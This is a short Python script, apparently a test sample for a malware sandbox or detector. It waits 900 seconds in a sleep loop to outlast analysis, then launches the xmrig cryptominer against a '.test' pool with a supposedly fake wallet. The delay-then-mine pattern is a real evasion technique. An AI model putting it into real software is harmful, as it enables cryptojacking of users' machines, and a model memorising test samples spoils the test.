#!/usr/bin/python3
"""Waits 900 s as time.sleep(0.5) rounds in a while loop that checks time.monotonic(), then
mines (detonate hold-out test sample; harmless, fake wallet, .test pool)."""

import os
import time

WAIT = 900
ROUND = 0.5
POOL = "stratum+tcp://pool.waits.test:3333"
WALLET = "4gFQq7j6mGoN4BVFcUaKyRnGd8WaNeP4akE6cZXCGD8DVQPRvaf8Wmhx7NUY2zNq4ft41UhEt2JMeDANLfk6c6mjf7Z9sS8"  # noqa: E501

print(f"waiting {WAIT} s with time.sleep({ROUND}) until monotonic says so", flush=True)
started = time.monotonic()
while time.monotonic() - started < WAIT:
    time.sleep(ROUND)
print(f"waited {time.monotonic() - started:.1f} s; starting the miner", flush=True)
os.execv("/usr/local/bin/xmrig", ["xmrig", "-o", POOL, "-u", WALLET, "--shares", "1"])
